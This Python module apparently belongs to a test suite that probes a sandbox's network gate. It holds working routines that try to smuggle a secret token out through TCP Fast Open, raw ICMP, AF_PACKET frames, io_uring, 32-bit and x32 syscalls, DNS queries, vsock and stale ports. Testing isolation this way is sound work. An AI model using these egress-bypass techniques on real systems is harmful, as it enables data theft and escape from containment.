"""Ways out over the network: every kind of socket, and every way to have one connected."""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import time
from typing import TYPE_CHECKING

from common import attack, each, libc, send

if TYPE_CHECKING:
    from common import World

_IPPROTO_MPTCP = 262
_MSG_FASTOPEN = 0x20000000
_TCP_FASTOPEN_CONNECT = 30
_AF_VSOCK = 40


@attack
def tcp4_direct(world: World) -> object:
    """Connect to the attacker's addresses: loopback, another loopback address, this machine's own."""
    return each(
        *(lambda host=host: send((host, world.tcp4), world.token, socket.AF_INET) for host in world.hosts)
    )


@attack
def tcp4_gateport(world: World) -> object:
    """Connect to the attacker on the very port that the gate has: a rule about ports lets it through."""
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "http://127.0.0.1:3128"
    port = int(proxy.rstrip("/").rsplit(":", 1)[1])
    world.ask("listen", host=world.hosts[1], port=port)
    return send((world.hosts[1], port), world.token, socket.AF_INET)


@attack
def tcp6_direct(world: World) -> object:
    """Connect over IPv6, also to an IPv4 address written as one of IPv6."""
    return each(
        lambda: send(("::1", world.tcp6), world.token, socket.AF_INET6),
        lambda: send((f"::ffff:{world.hosts[0]}", world.tcp4), world.token, socket.AF_INET6),
    )


@attack
def udp_datagram(world: World) -> object:
    """Send datagrams, connected and not: what a question to a name server is."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        said = each(
            *(lambda host=host: sender.sendto(world.token, (host, world.udp)) for host in world.hosts)
        )
    return said + each(
        lambda: send((world.hosts[0], world.udp), world.token, socket.AF_INET, socket.SOCK_DGRAM),
        lambda: send((world.hosts[0], world.udp), world.token, socket.AF_INET, socket.SOCK_DGRAM, 17),
    )


@attack
def udp6_datagram(world: World) -> object:
    """The same over IPv6."""
    return send(("::1", world.udp), world.token, socket.AF_INET6, socket.SOCK_DGRAM)


@attack
def udplite(world: World) -> object:
    """UDP-Lite (RFC 3828): another protocol number with the same use."""
    return send((world.hosts[0], world.udplite), world.token, socket.AF_INET, socket.SOCK_DGRAM, 136)


@attack
def mptcp(world: World) -> object:
    """Multipath TCP: a stream with another protocol number, which a rule about TCP may not see."""
    return send((world.hosts[0], world.tcp4), world.token, socket.AF_INET, socket.SOCK_STREAM, _IPPROTO_MPTCP)


@attack
def sctp(world: World) -> object:
    """SCTP, where the kernel has it."""
    return send((world.hosts[0], world.sctp), world.token, socket.AF_INET, socket.SOCK_STREAM, 132)


@attack
def tcp_fastopen(world: World) -> object:
    """Have sendto connect (TCP Fast Open, RFC 7413): no connect() is made."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(1.5)
        address = (world.hosts[0], world.tcp4)
        said = each(lambda: connection.sendto(world.token, _MSG_FASTOPEN, address))
        return said + each(lambda: connection.send(world.token), lambda: connection.recv(64))


@attack
def tcp_fastopen_sendmsg(world: World) -> object:
    """The same with sendmsg, which has the address in memory."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(1.5)
        address = (world.hosts[0], world.tcp4)
        said = each(lambda: connection.sendmsg([world.token], [], _MSG_FASTOPEN, address))
        return said + each(lambda: connection.send(world.token), lambda: connection.recv(64))


@attack
def tcp_fastopen_connect(world: World) -> object:
    """Have connect return at once and the first write connect (TCP_FASTOPEN_CONNECT, tcp(7))."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(1.5)
        connection.setsockopt(socket.IPPROTO_TCP, _TCP_FASTOPEN_CONNECT, 1)
        connection.connect((world.hosts[0], world.tcp4))
        connection.sendall(world.token)
        return connection.recv(64)


@attack
def reconnect(world: World) -> object:
    """Connect to a permitted place, dissolve that (AF_UNSPEC, connect(2)) and connect elsewhere."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as own, socket.socket() as connection:
        own.bind(("127.0.0.1", 0))
        own.listen(1)
        connection.settimeout(1.5)
        said = each(lambda: connection.connect(own.getsockname()))
        unspecified = ctypes.create_string_buffer(struct.pack("=H14x", socket.AF_UNSPEC))
        said += each(lambda: libc("connect", connection.fileno(), unspecified, 16))
        said += each(lambda: connection.connect((world.hosts[0], world.tcp4)))
        return said + each(lambda: connection.sendall(world.token), lambda: connection.recv(64))


@attack
def bind_to_device(world: World) -> object:
    """Tie a socket to an interface (SO_BINDTODEVICE), past routes, with UDP and TCP."""

    def out(device: str, kind: int) -> str:
        with socket.socket(socket.AF_INET, kind) as sender:
            sender.settimeout(1)
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
            port = world.udp if kind == socket.SOCK_DGRAM else world.tcp4
            sender.connect((world.hosts[0], port))
            sender.sendall(world.token)
            return "sent"

    return each(
        *(
            lambda device=device, kind=kind: out(device, kind)
            for device in ("lo", "eth0")
            for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM)
        )
    )


@attack
def raw_icmp(world: World) -> object:
    """Put the secret into a ping (a raw socket, or the one for unprivileged pings)."""
    header = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    data = header + world.token + b"\0" * (len(world.token) % 2)
    words = sum(struct.unpack(f">{len(data) // 2}H", data))
    while words >> 16:
        words = (words & 0xFFFF) + (words >> 16)
    packet = data[:2] + struct.pack(">H", ~words & 0xFFFF) + data[4:]

    def ping(kind: int) -> str:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sender:
            return f"sent {sender.sendto(packet, (world.hosts[0], 0))}"

    return each(lambda: ping(socket.SOCK_RAW), lambda: ping(socket.SOCK_DGRAM))


@attack
def packet_socket(world: World) -> object:
    """Put a whole frame on an interface (AF_PACKET): no address, no protocol, no rule about either."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sender:
        sender.bind(("lo", 0))
        return sender.send(b"\0" * 12 + struct.pack(">H", world.frame_type) + world.token)


@attack
def inbound_listen(world: World) -> object:
    """Wait to be called instead of calling: from another address than the one of loopback itself."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("0.0.0.0", 0))
        return _be_called(world, listener)


@attack
def inbound_autobind(world: World) -> object:
    """The same without bind: listen() takes a free port on every address."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        return _be_called(world, listener)


@attack
def inbound6(world: World) -> object:
    """The same over IPv6, whose sockets take calls over IPv4 as well."""
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as listener:
        listener.bind(("::", 0))
        return _be_called(world, listener)


def _be_called(world: World, listener: socket.socket) -> str:
    listener.listen(5)
    listener.settimeout(2)
    port = listener.getsockname()[1]
    world.ask("call", hosts=world.hosts[1:], port=port)  # the accomplice calls a little later
    connection, caller = listener.accept()
    with connection:
        connection.sendall(world.token)
        return f"called by {caller}"


@attack
def stale_port(world: World) -> object:
    """Use a port, leave it to a service outside, and connect to it as if it were still one's own."""
    with socket.socket() as own:
        own.bind(("127.0.0.1", 0))
        own.listen(1)
        port = own.getsockname()[1]
    world.ask("listen", host="127.0.0.1", port=port)
    return send(("127.0.0.1", port), world.token, socket.AF_INET)


@attack
def stale_socket(world: World) -> object:
    """The same with the port of a socket that was never bound by the attacker."""
    with socket.socket() as own:
        own.listen(1)
        port = own.getsockname()[1]
    world.ask("listen", host="127.0.0.1", port=port)
    return send(("127.0.0.1", port), world.token, socket.AF_INET)


@attack
def own_port_elsewhere(world: World) -> object:
    """Have a port of one's own; the attacker listens on the same port of another address."""
    with socket.socket() as own:
        own.bind(("127.0.0.1", 0))
        own.listen(1)
        port = own.getsockname()[1]
        world.ask("listen", host=world.hosts[1], port=port)
        world.ask("listen", host="::1", port=port)
        return each(
            lambda: send((world.hosts[1], port), world.token, socket.AF_INET),
            lambda: send(("::1", port), world.token, socket.AF_INET6),
            lambda: send((f"::ffff:{world.hosts[1]}", port), world.token, socket.AF_INET6),
        )


@attack
def failed_bind(world: World) -> object:
    """Try to bind the port of a service outside, which fails, and connect to it."""
    with socket.socket() as own:
        said = each(lambda: own.bind(("127.0.0.1", world.tcp4)), lambda: own.listen(1))
        said += each(lambda: send(("127.0.0.1", world.tcp4), world.token, socket.AF_INET))
    with socket.socket() as own:
        own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        said += each(lambda: own.bind(("127.0.0.1", world.tcp4)))
        return said + each(lambda: send(("127.0.0.1", world.tcp4), world.token, socket.AF_INET))


@attack
def io_uring(world: World) -> object:
    """Make, connect and write a socket through io_uring: not one call that has to do with sockets."""
    return world.tool("uring", world.hosts[0], world.tcp4, world.token.decode())


@attack
def i386_int80(world: World) -> object:
    """Enter the kernel the way 32-bit programs do: other numbers for the same calls."""
    return world.tool("int80", world.hosts[0], world.tcp4, world.token.decode())


@attack
def x32_calls(world: World) -> object:
    """Use the numbers of the x32 ABI (bit 30 set), where the kernel has it."""
    return world.tool("x32", world.hosts[0], world.tcp4, world.token.decode())


@attack
def libc_dns(world: World) -> object:
    """Ask a name server for a name that is the secret, by libc's own resolver."""
    return world.tool("resolve", world.hosts[0], world.udp, world.token.decode().replace(":", "-"))


@attack
def vsock(world: World) -> object:
    """A socket to the host of this virtual machine: no network namespace holds it (vsock(7))."""
    with socket.socket(_AF_VSOCK, socket.SOCK_STREAM) as connection:
        connection.settimeout(0.5)
        said = each(
            lambda: connection.connect((1, world.vsock)),
            lambda: connection.sendall(world.token),
        )
        return [f"made a socket of family {connection.family}: {world.claim}", *said]


@attack
def other_families(world: World) -> object:
    """Make a socket of every family and kind there is but the two or three that a build needs."""
    made = []
    needed = (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6)
    for family in range(48):
        for kind in (1, 2, 3, 4, 5, 6, 10):
            for protocol in (0, 1, 2, 4, 9, 15, 16):
                if family in needed or (family == socket.AF_NETLINK and protocol == 0):
                    continue
                try:
                    socket.socket(family, kind, protocol).close()
                except OSError:
                    continue
                made.append((family, kind, protocol))
    return f"{world.claim} {made}" if made else "none"


@attack
def late_connect(world: World) -> object:
    """Begin to connect and go on only after a while, when a guard may have stopped looking."""
    with socket.socket() as connection:
        connection.setblocking(False)
        said = each(lambda: connection.connect((world.hosts[0], world.tcp4)))
        time.sleep(0.3)
        return said + each(
            lambda: connection.connect((world.hosts[0], world.tcp4)), lambda: connection.send(world.token)
        )
